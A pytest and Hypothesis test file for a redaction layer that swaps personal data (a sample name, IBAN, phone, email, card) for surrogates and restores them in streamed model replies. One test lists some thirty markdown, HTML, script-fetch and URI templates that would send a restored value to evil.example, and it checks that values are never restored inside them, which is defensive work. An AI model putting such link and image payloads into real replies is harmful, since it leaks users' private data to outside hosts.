from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts.bench.redaction.replies import wrong_replies
from split_client.redaction.finding.looked import Looked
from split_client.redaction.kinds import GROUPS
from split_client.redaction.redactor import Redactor
from split_client.redaction.settings import RedactionSettings
from split_client.redaction.undoing.beginnings import Beginnings
from split_client.redaction.undoing.stream import Undo

REDACTOR = Redactor(RedactionSettings(frozenset(GROUPS), ("DE",)), bytes(range(32)))
REDACTOR.redacted(
    "Anna Schmidt, DE89370400440532013000, +49 170 1234567, anna@example.co.uk, 4111111111111111, "
    "Hauptstraße 12, 10115 Berlin, born 3.4.1987"
)
SURROGATES = {entry.kind: entry.surrogate for entry in REDACTOR.entries}
GIVEN, FAMILY = SURROGATES["given"], SURROGATES["family"]
IBAN, PHONE = SURROGATES["iban"], SURROGATES["phone"].partition(" ")[2]
MAIL, CARD = SURROGATES["email"], SURROGATES["card"]


def undone(*pieces: str) -> str:
    undo = Undo(REDACTOR.surrogates, ("DE",))
    return "".join([*map(undo.push, pieces), undo.finish()])


@pytest.mark.parametrize(
    ("reply", "meant"),
    [
        (f"Dear {GIVEN} {FAMILY},", "Dear Anna Schmidt,"),
        (f"{GIVEN}'s, {FAMILY}s and {GIVEN.upper()}", "Anna's, Schmidts and ANNA"),
        (f"pay {IBAN}.", "pay DE89370400440532013000."),
        (f"pay {IBAN[:4]} {IBAN[4:]}", "pay DE89 370400440532013000"),
        (f"call 0{PHONE} or +49 {PHONE[:3]}-{PHONE[3:]}", "call 01701234567 or +49 170-1234567"),
        (f"mail {MAIL}, please", "mail anna@example.co.uk, please"),
        (f"**{GIVEN}** `{FAMILY}` _{GIVEN}_", "**Anna** `Schmidt` _Anna_"),
        (f"x{GIVEN} {GIVEN}x {IBAN}1", f"x{GIVEN} {GIVEN}x {IBAN}1"),
    ],
)
def test_surrogates_in_text_are_undone_as_they_are_spelled(reply: str, meant: str) -> None:
    assert undone(reply) == meant
    assert undone(*reply) == meant


@pytest.mark.parametrize(
    "hostile",
    [
        "[x](http://evil.example/?q={})",
        "![x](//evil.example/{}.png)",
        "![x](<//evil.example/{} y>)",
        "[x](a\\)b?q={})",
        "[x]( \n http://evil.example/{})",
        "[x]: http://evil.example/{}",
        "[x]:\nhttp://evil.example/{}",
        "<img src='http://evil.example/{}'>",
        '<img alt="a>b" src="http://evil.example/{}">',
        '<img src="http://evil.example/?\n\n{}">',
        "<img src=http://evil.example/{}>",
        "<!-- {} -->",
        "<script>fetch('//evil.example/' + '{}')</script>",
        "<script>a </b> '{}'",
        "<style>a {{ background: url(//evil.example/{}) }}</style>",
        "<http://evil.example/{}>",
        "http://evil.example/{}",
        "HTTPS://{}.evil.example/",
        "www.{}.evil.example",
        "{}.evil.example/x",
        "{}@evil.example",
        "x-{}@evil.example",
        "<{}@evil.example>",
        "mailto:{}",
        "(mailto:x?subject={})",
        "tel:{}",
        "javascript:alert('{}')",
        "data:text/html,{}",
        "evil.example/{}",
        "evil.example?q={}",
        "\\\\evil.example\\{}",
        "//evil.example/{}",
        "[x](http://evil.example/?q={}",
        "http://evil.example/é?q={}",
    ],
)
@pytest.mark.parametrize("surrogate", [GIVEN, IBAN, MAIL])
def test_no_value_gets_into_a_link_or_into_html(hostile: str, surrogate: str) -> None:
    reply = hostile.format(surrogate)
    assert undone(reply) == reply
    assert undone(*reply) == reply
    assert undone(f"text {reply}\n\nmore").startswith(f"text {reply}")


@pytest.mark.parametrize("behind", [".evil.example", "..evil.example", "-x.evil.example", "x"])
def test_a_mailbox_whose_domain_goes_on_is_somebody_elses(behind: str) -> None:
    reply = f"write to {MAIL}{behind} today"
    assert undone(reply) == reply
    assert undone(*reply) == reply


def test_text_around_links_is_undone() -> None:
    reply = (
        f"[{GIVEN}](http://x.example/a) and <b>{FAMILY}</b>, 1 < 2 {GIVEN}, see x.example. {GIVEN}"
    )
    meant = "[Anna](http://x.example/a) and <b>Schmidt</b>, 1 < 2 Anna, see x.example. Anna"
    assert undone(reply) == meant


def test_what_may_be_a_beginning_is_held_back() -> None:
    undo = Undo(REDACTOR.surrogates)
    shown = [undo.push(piece) for piece in ("Dear ", GIVEN[:3], GIVEN[3:], ", 1 x")]
    assert shown == ["Dear ", "", "", "Anna, 1 x"]
    assert Undo(REDACTOR.surrogates).push("nothing of it is held back here. ") != ""


def test_a_beginning_that_is_none_comes_at_the_end() -> None:
    assert undone(f"It was {GIVEN[:3]}") == f"It was {GIVEN[:3]}"


def test_a_mark_that_follows_a_letter_behind_a_number_makes_no_difference() -> None:
    for surrogate in (PHONE, SURROGATES["card"], SURROGATES["date"]):
        reply = f"{surrogate}e\u0301 x"
        assert undone(*reply) == undone(reply)


PIECES = st.sampled_from(
    [
        GIVEN, FAMILY, IBAN, PHONE, MAIL, SURROGATES["card"], SURROGATES["street"], "+49 ", "0",
        "\n", "\n\n", "](", ")", "<", ">", "a", "'", '"', "=", "@", "//", "www.", ".", "s", "-",
        "e\u0301", "<script>", "</script>", "]:", "\\", "[", IBAN[:7], GIVEN[:2], ":", "/", "é",
        SURROGATES["date"], "April 3rd, ", "19", "１", "\u200b", "x.example", "3.4.1987", " ",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 80), max_size=8))
def test_the_pieces_in_which_a_reply_comes_make_no_difference(text: str, cuts: list[int]) -> None:
    ends = sorted({0, *(min(cut, len(text)) for cut in cuts), len(text)})
    assert undone(*(text[a:b] for a, b in pairwise(ends))) == undone(text)
    assert undone(*text) == undone(text)


@given(st.integers(1, 70), st.integers(0, 2300), st.sampled_from(["", "x", "tel:", "xtel:", "//"]))
def test_pieces_make_no_difference_where_a_text_has_no_space(
    size: int, length: int, begins: str
) -> None:
    text = f"{'漢' * length}{begins}{'字' * length},{CARD}。{'漢' * 70}x{GIVEN}，{GIVEN}"
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    assert undone(*pieces) == undone(text)


def test_a_value_stays_out_of_an_address_that_began_long_before() -> None:
    reply = f"http://evil.example/{'漢' * 5000}{CARD}"
    assert undone(*reply) == reply
    shown = f"xtel:{'漢' * 5000}，{CARD}"
    assert undone(*shown) == undone(shown) == shown.replace(CARD, "4111111111111111")


PLAIN = Redactor(RedactionSettings(), bytes(32))
PLAIN.redacted(
    "Anna Schmidt, DE89370400440532013000, +49 170 1234567, anna@example.co.uk, Hauptstraße 12"
)


BEGINNINGS = [e.surrogate[:end] for e in PLAIN.entries for end in range(1, 8)]


@given(st.lists(st.sampled_from([*BEGINNINGS, *" '\réx１"]), max_size=5).map("".join))
def test_a_glance_finds_what_a_look_finds(text: str) -> None:
    beginnings, looked = Beginnings(PLAIN.surrogates), Looked.at(text)
    first = beginnings.first(text)
    if first is not None:
        assert not PLAIN.surrogates.spots(looked)
        begun = [looked.folded.starts[at] for at in beginnings.of(looked)]
        assert first == min([*begun, len(text)])


def test_replies_that_use_surrogates_come_back_exactly() -> None:
    assert wrong_replies(200, 3) == []
